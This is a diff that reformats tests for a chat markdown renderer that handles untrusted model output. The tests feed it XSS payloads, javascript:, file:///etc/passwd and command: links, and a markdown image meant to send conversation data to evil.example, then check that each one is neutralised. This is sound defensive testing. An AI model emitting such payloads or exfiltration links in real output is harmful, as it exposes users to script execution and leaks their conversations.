@@ -12,13 +12,23 @@ const plain = createMarkdown({ highlight: false });
 
 describe('chat markdown (untrusted model output)', () => {
   it('shows raw HTML as text (html: false)', () => {
-    const out = md.render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="https://evil"></iframe>');
+    const out = md.render(
+      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="https://evil"></iframe>',
+    );
     assert.ok(!/<script|<img|<iframe/i.test(out), out);
     assert.ok(out.includes('&lt;script&gt;'));
   });
 
   it('links only to absolute http(s) URLs', () => {
-    for (const bad of ['[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](data:text/html,<b>)', '[x](file:///etc/passwd)', '[x](//evil.example/p)', '[x](vscode:extension/x)', '[x](command:workbench.action.terminal.new)']) {
+    for (const bad of [
+      '[x](javascript:alert(1))',
+      '[x](JaVaScRiPt:alert(1))',
+      '[x](data:text/html,<b>)',
+      '[x](file:///etc/passwd)',
+      '[x](//evil.example/p)',
+      '[x](vscode:extension/x)',
+      '[x](command:workbench.action.terminal.new)',
+    ]) {
       const out = md.render(bad);
       assert.ok(!out.includes('href='), `${bad} → ${out}`);
     }
@@ -33,7 +43,10 @@ describe('chat markdown (untrusted model output)', () => {
   it('never renders an image: the markdown image becomes a labelled link (exfiltration stays a click away)', () => {
     const out = md.render('![secret](https://evil.example/p.png?q=conversation)');
     assert.ok(!/<img/i.test(out), out);
-    assert.match(out, /<a href="https:\/\/evil\.example\/p\.png\?q=conversation" class="image-link"[^>]*>\[image: secret\]<\/a>/);
+    assert.match(
+      out,
+      /<a href="https:\/\/evil\.example\/p\.png\?q=conversation" class="image-link"[^>]*>\[image: secret\]<\/a>/,
+    );
     const rel = md.render('![x](//evil.example/p.png)');
     assert.ok(!/<img/i.test(rel) && !rel.includes('href='), rel);
   });
